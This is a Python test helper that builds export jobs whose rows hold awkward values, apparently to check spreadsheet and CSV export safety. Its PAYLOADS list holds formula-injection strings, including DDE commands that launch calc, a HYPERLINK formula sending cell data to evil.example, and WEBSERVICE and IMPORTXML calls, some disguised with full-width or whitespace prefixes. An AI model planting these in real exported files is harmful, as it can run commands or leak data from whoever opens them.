"""Jobs with rows that are hard to write down, and files of them."""

from collections.abc import Sequence
from pathlib import Path
from typing import Any

from gossamer.exports.formats import FORMATS
from gossamer.exports.make import Order, expected, make_file
from gossamer.model.job import Job
from gossamer.model.states import SiteState
from gossamer.model.trouble import Reason, Trouble
from gossamer.recipes.base import Looks
from gossamer.recipes.prospect import PROSPECT
from gossamer.settle.step import Finished, Step
from gossamer.store import jobs
from tests.conftest import AnyDatabase
from tests.jobs import claim_all, done, make_job, settle

# What spreadsheets have been made to run, and what hides it.
PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "-",
    "=",
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML(CONCAT("http://evil.example"), "//a")',
    "+49 30 1234567",
)

HARMLESS = (
    "two\nlines\r\nand a third",
    'he said "CRM", twice; and, again',
    "Ünïcödé 🎉 👨‍👩‍👧 naïve",
    "שלום עולם \u202eمرحبا",
    "'quoted already",
    " leading and trailing ",
    "\u2028 separators \x0b \x85",
    "comma,semicolon;tab\tin the middle",
    "null \\N and \\. and \\\\",
    "",
)

LONG = "long 🎉 text " * 4_200  # more than 50,000 characters

AS_USUAL = Looks()

HOSTILE = (*PAYLOADS, *HARMLESS, LONG)


def match(snippet: str, number: int) -> dict[str, Any]:
    """What a record has besides its domain, address and keyword."""
    return {
        "frequency": -number,
        "context_snippet": snippet,
        "crawl_method": "direct",
        "timestamp": f"2026-11-16T01:42:{number % 60:02}Z",
        "http_status": 200,
        "verdict": "unlinked" if number % 2 else "linked",
        "link_url": "https://acme.com/" if number % 2 else "",
        "anchor_text": snippet[:100],
        "position": "body",
    }


async def hostile_job(database: AnyDatabase) -> tuple[Job, list[dict[str, Any]]]:
    """A job of three domains, one without a match, one that failed; and its matches in the order of the file."""
    job = await database.write(make_job, "b.test", "a.test", "empty.test", "failed.test")
    rows, steps = [], []
    for visit in await database.write(claim_all):
        if visit.host == "failed.test":
            trouble = Trouble(Reason.TIMEOUT, "15s")
            steps.append(Step(visit, ending=Finished(SiteState.FAILED, trouble)))
        elif visit.host != "empty.test":
            for number, snippet in enumerate(HOSTILE):
                url = f"http://{visit.host}/{number:02}"
                more = match(snippet, number)
                steps.append(done(visit, url, "ERP", "CRM", depth=1, **more))
                rows += [{"domain": visit.host, "url": url, "keyword": keyword, **more} for keyword in ("CRM", "ERP")]
    await settle(database, *steps)
    found = await database.read(jobs.get, job.id)
    assert found
    return found, sorted(rows, key=lambda row: (row["domain"], row["url"], row["keyword"]))


async def file_of(
    database: AnyDatabase,
    job: Job,
    form: str,
    table: str = "results",
    *,
    columns: Sequence[str] = (),
    only: str = "",
    looks: Looks = AS_USUAL,
    folder: Path | None = None,
) -> bytes:
    order = Order(
        job, next(one for one in PROSPECT.tables if one.name == table), FORMATS[form], tuple(columns), only, looks
    )
    total = await expected(database, order)
    made = make_file(database, order, lambda _: None, lines_expected=total, folder=folder)
    return b"".join([chunk async for chunk in made])
